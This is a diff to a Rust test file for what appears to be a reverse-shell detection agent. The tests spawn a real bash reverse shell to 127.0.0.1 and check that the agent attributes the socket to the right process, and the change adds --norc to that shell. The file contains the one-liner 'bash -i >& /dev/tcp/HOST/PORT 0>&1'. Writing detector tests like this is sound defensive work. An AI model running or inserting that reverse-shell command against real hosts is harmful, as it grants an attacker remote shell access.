@@ -1,4 +1,5 @@
-//! Real reverse shells on loopback, started under a wrapper whose argv we know; the
+//! Real reverse shells on loopback, started under a wrapper whose argv we know (the
+//! interactive shells get `--norc`: a slow ~/.bashrc, e.g. pyenv init, would stall them); the
 //! agent must attribute each socket to the right pid with its parent chain, argv and
 //! fds 0-2 wired to the socket.
 
@@ -68,7 +69,7 @@ fn check_common(r: &InventoryRecord, wrapper: i32, wrapper_script: &str, stderr_
 fn bash_dev_tcp_shell() {
     require_tool("bash", "bash");
     let (l, port) = listener();
-    let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 & wait");
+    let script = format!("bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1 & wait");
     let g = Group::spawn(Command::new("bash").args(["-c", &script]));
     let mut conn = accept_within(&l, 10);
     shell_answers(&mut conn, "echo shellsight-$((6*7))\n", "shellsight-42");
@@ -76,7 +77,7 @@ fn bash_dev_tcp_shell() {
     let r = shell_record(port, conn.peer_addr().unwrap().port(), shell);
     let p = r.process.as_ref().unwrap();
     assert_eq!(p.name, "bash");
-    assert_eq!(p.args, ["bash", "-i"]);
+    assert_eq!(p.args, ["bash", "--norc", "-i"]);
     assert!(p.executable.as_deref().unwrap().ends_with("bash"));
     assert!(!p.exe_deleted);
     check_common(&r, g.pid(), &script, true);
